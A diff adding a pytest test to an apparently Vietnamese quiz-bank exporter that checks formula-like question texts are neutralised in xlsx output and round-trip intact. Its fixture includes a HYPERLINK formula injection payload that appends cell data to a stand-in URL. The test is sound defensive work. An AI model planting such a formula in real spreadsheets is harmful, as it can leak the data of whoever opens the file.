@@ -207,3 +207,32 @@ def test_a_workbook_without_the_questions_sheet_is_refused(exported):
     with pytest.raises(WorkbookError) as caught:
         read_workbook(exported)
     assert "không có trang “Câu hỏi”" in str(caught.value)
+
+
+def test_formula_like_text_is_neutralised_in_the_export_and_restored_on_import(bank, tmp_path):
+    # Given questions whose texts start like spreadsheet formulas (and one that already starts with "'=")
+    import dataclasses
+
+    first, second, *rest = bank.questions
+    first = dataclasses.replace(
+        first,
+        text='=HYPERLINK("http://x"&A2,"Câu hỏi")',
+        options={**first.options, "A": "-5 °C", "B": "+1 điểm", "C": "@Hà Tĩnh"},
+    )
+    second = dataclasses.replace(second, text="'=1+1 vẫn là chữ", options={**second.options, "D": "-1"})
+    hostile = Bank((first, second, *rest))
+    target = tmp_path / "bank.xlsx"
+    export_workbook(hostile, target, documents=document_titles(DOCUMENTS), weeks=WEEKS, per_attempt=PER_ATTEMPT)
+    # When the organisers open it: no formula cell, the texts start with the apostrophe
+    sheet = load_workbook(target)[QUESTIONS_SHEET]
+    row = {c.column_letter: c for c in sheet[2]}
+    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
+    assert row[column("text")].value == "'" + first.text
+    assert row[column("options.A")].value == "'-5 °C"
+    assert row[column("options.B")].value == "'+1 điểm"
+    assert sheet.cell(row=3, column=2).value == "''=1+1 vẫn là chữ"
+    assert sheet.cell(row=3, column=6).value == "-1"  # a bare number is no formula
+    # And when it is imported back, every text is exactly what was exported (lossless round trip)
+    questions, _locations, issues = validate(target)
+    assert issues == []
+    assert Bank(tuple(questions)) == canonical_order(hostile)
